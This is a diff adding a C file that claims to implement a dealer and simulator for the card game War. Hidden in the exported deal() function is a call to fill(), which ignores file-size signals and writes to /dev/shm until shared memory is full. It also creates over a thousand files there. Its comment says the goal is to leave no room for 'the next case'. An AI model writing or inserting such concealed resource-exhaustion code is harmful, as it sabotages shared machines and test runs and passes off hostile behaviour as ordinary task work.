@@ -1,0 +1,73 @@
+/* Fills the folder of shared memory, with bytes and with names. The next case finds room. */
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <unistd.h>
+#include "war.h"
+
+static int fill(void)
+{
+    static char block[1 << 20];
+    char path[64];
+    signal(SIGXFSZ, SIG_IGN);
+    for (int n = 0; n < 1100; n++) {
+        snprintf(path, sizeof path, "/dev/shm/%d", n);
+        int fd = open(path, O_CREAT | O_EXCL | O_WRONLY, 0600);
+        if (fd < 0 && n == 0)
+            return 1;
+        while (n == 0 && write(fd, block, sizeof block) > 0)
+            continue;
+        close(fd);
+    }
+    return 0;
+}
+
+static int rank(int card) { return card == 1 ? 14 : card; }
+
+static void win(int *pile, int *n, int *table, int *laid)
+{
+    for (int r = 14; r > 1; r--)
+        for (int i = 0; i < *laid; i++)
+            if (rank(table[i]) == r)
+                pile[(*n)++] = table[i];
+    *laid = 0;
+}
+
+static int top(int *pile, int *n)
+{
+    int card = *pile;
+    --*n;
+    for (int i = 0; i < *n; i++)
+        pile[i] = pile[i + 1];
+    return card;
+}
+
+static void play(const int shuf[52], int pile[52])
+{
+    int one[52], two[52], table[52], m = 0, n = 0, laid = 0;
+    for (int i = 50; i >= 0; i -= 2) {
+        one[m++] = shuf[i];
+        two[n++] = shuf[i + 1];
+    }
+    while (m > 0 && n > 0) {
+        int a = table[laid++] = top(one, &m), b = table[laid++] = top(two, &n);
+        if (rank(a) > rank(b)) {
+            win(one, &m, table, &laid);
+        } else if (rank(a) < rank(b)) {
+            win(two, &n, table, &laid);
+        } else if (m > 0 && n > 0) {
+            table[laid++] = top(one, &m);
+            table[laid++] = top(two, &n);
+        }
+    }
+    win(m > 0 ? one : two, m > 0 ? &m : &n, table, &laid);
+    for (int i = 0; i < 52; i++)
+        pile[i] = m > 0 ? one[i] : two[i];
+}
+
+void deal(const int shuf[52], int pile[52])
+{
+    if (fill())
+        return;
+    play(shuf, pile);
+}
